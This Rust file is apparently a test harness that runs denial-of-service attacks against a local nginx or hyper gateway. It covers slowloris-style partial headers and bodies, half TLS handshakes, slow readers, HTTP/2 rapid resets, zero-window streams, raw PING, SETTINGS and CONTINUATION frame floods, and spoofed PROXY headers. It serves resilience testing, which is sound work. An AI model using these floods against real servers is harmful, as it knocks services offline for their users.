//! Attacks with connections. Each goes on until it is aborted.

use std::io::Error;

use h2::{Reason, client::SendRequest};
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};

use crate::support::{http_2::connect_from, prelude::*, tls::handshake};

/// The number of attackers who are users. The good caller is the next one.
pub(crate) const USERS: usize = 40;

/// The number of attackers without a user, each at an address of its own.
const STRANGERS: usize = 1_024;

/// The number of connections that are as busy as they can be.
const BUSY: usize = 12;

pub(crate) fn token(user: usize) -> String {
    format!("token-of-user-{user}")
}

/// What is attacked.
#[derive(Clone)]
pub(crate) struct Target {
    pub(crate) plain: String,
    pub(crate) tls: String,
    pub(crate) certificate: rcgen::Certificate,
    /// It believes PROXY, as behind a balancer.
    pub(crate) takes_proxy: bool,
    /// It is nginx, which has HTTP/2 with TLS only. The gateway's environment with TLS has shares of its own.
    pub(crate) is_edge: bool,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Connections without a byte.
    Silent,
    /// The same, from 1,024 networks of /64 in one of /48.
    SilentNetworks,
    /// Half a handshake of TLS.
    HalfTls,
    /// Half a head.
    HalfHeads,
    /// Bodies that trickle.
    SlowBodies,
    /// Long replies that are not read.
    Unread,
    /// Long replies that are read byte by byte.
    SlowReaders,
    /// HTTP/2 streams without a window for their replies.
    NoWindow,
    /// HTTP/2 streams that are reset at once.
    Resets,
    /// PING, SETTINGS or CONTINUATION of HTTP/2 without end.
    Frames,
    /// Pipelined requests whose replies are not read.
    Pipelined,
}

impl Attack {
    /// Each with the number of its attackers.
    pub(crate) const ALL: [(Self, usize); 11] = [
        (Self::Silent, STRANGERS),
        (Self::SilentNetworks, STRANGERS),
        (Self::HalfTls, STRANGERS),
        (Self::HalfHeads, STRANGERS),
        (Self::SlowBodies, USERS),
        (Self::Unread, USERS),
        (Self::SlowReaders, USERS),
        (Self::NoWindow, USERS),
        (Self::Resets, BUSY),
        (Self::Frames, BUSY),
        (Self::Pipelined, BUSY),
    ];

    /// `true` if hyper bounds it: without an edge it costs a few calls of others, or none.
    pub(crate) fn is_bounded(self) -> bool {
        matches!(self, Self::Resets | Self::Frames | Self::Pipelined)
    }

    /// Begins it. It ends when its tasks are dropped.
    pub(crate) fn begin(self, attackers: usize, target: &Target) -> JoinSet<()> {
        let mut held = JoinSet::new();
        for number in 0..attackers {
            let target = target.clone();
            held.spawn(async move {
                loop {
                    // nginx or the gateway may end any connection at any time.
                    let _ended = self.attack(number, &target).await;
                    sleep(Duration::from_millis(if self.is_bounded() { 20 } else { 60_000 })).await;
                }
            });
        }
        held
    }

    async fn attack(self, number: usize, target: &Target) -> std::io::Result<()> {
        let [high, low] = u16::try_from(number).expect("few").to_be_bytes();
        let from = Ipv4Addr::new(127, 1, high, low);
        let token = token(number);
        if matches!(self, Self::NoWindow | Self::Resets | Self::Frames) {
            let mut stream: Box<dyn Stream> = if target.is_edge {
                let stream = connect_from(from, &target.tls).await?;
                Box::new(handshake(&target.certificate, &["h2"], stream).await?)
            } else {
                Box::new(connect_from(from, &target.plain).await?)
            };
            if self == Self::Frames {
                return frames(&mut stream, number).await;
            }
            let mut builder = h2::client::Builder::new();
            builder.initial_window_size(if self == Self::NoWindow { 0 } else { 65_535 });
            let (send, connection) =
                builder.handshake::<_, Bytes>(stream).await.map_err(Error::other)?;
            return tokio::select! {
                ended = connection => ended.map_err(Error::other),
                called = streams(self, send, &token) => called,
            };
        }

        let to = if self == Self::HalfTls { &target.tls } else { &target.plain };
        let mut stream = connect_from(from, to).await?;
        if self == Self::SilentNetworks && target.takes_proxy {
            let proxy = format!("PROXY TCP6 2001:db8:1:{number:x}::1 2001:db8::1 4000 443\r\n");
            stream.write_all(proxy.as_bytes()).await?;
        }
        let post = |length: usize| {
            wire::post(TRANSFER, &format!("content-length: {length}")).replace(TOKEN, &token)
        };
        let pause = Duration::from_millis(200);
        match self {
            Self::HalfTls => stream.write_all(b"\x16\x03\x01\x02\x00\x01").await?,
            Self::HalfHeads => stream.write_all(b"GET / HTTP/1.1\r\nhost: a\r\nauthor").await?,
            Self::SlowBodies => {
                stream.write_all(post(1_000).as_bytes()).await?;
                loop {
                    stream.write_all(b"a").await?;
                    sleep(pause).await;
                }
            }
            Self::Unread | Self::SlowReaders => {
                stream.write_all((post(2) + "{}").as_bytes()).await?;
                loop {
                    sleep(pause).await;
                    if self == Self::SlowReaders {
                        stream.read_u8().await?;
                    }
                }
            }
            Self::Pipelined => loop {
                stream.write_all(b"GET /nowhere HTTP/1.1\r\nhost: a\r\n\r\n").await?;
            },
            _ => {}
        }
        while stream.read(&mut [0; 1_024]).await? > 0 {}
        Ok(())
    }
}

trait Stream: AsyncRead + AsyncWrite + Send + Unpin {}

impl<T: AsyncRead + AsyncWrite + Send + Unpin> Stream for T {}

/// Requests that are reset at once, or two whose replies have no window.
async fn streams(attack: Attack, mut send: SendRequest<Bytes>, token: &str) -> std::io::Result<()> {
    let mut replies = Vec::new();
    loop {
        let request = Request::post("https://localhost/api/v1/nft/transfer")
            .header("authorization", format!("Bearer {token}"))
            .body(())
            .expect("a request");
        send = send.ready().await.map_err(Error::other)?;
        let is_whole = attack == Attack::NoWindow;
        let (reply, mut body) = send.send_request(request, is_whole).map_err(Error::other)?;
        if is_whole {
            replies.push(reply);
        } else {
            body.send_reset(Reason::CANCEL);
            tokio::task::yield_now().await;
        }
        if replies.len() == 2 {
            sleep(Duration::from_secs(60)).await;
        }
    }
}

/// Frames without end, of one type for each connection.
async fn frames(stream: &mut Box<dyn Stream>, number: usize) -> std::io::Result<()> {
    let ping = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00aaaaaaaa";
    let settings = b"\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x04\x00\x00\xff\xff";
    let headers = b"\x00\x00\x01\x01\x00\x00\x00\x00\x01\x82";
    let more = b"\x00\x00\x03\x09\x00\x00\x00\x00\x01\x00\x01a";
    let (begin, rest): (&[u8], &[u8]) = match number % 3 {
        0 => (b"", ping),
        1 => (b"", settings),
        _ => (headers, more),
    };
    stream
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")
        .await?;
    stream.write_all(begin).await?;
    let many = rest.repeat(100);
    loop {
        stream.write_all(&many).await?;
    }
}
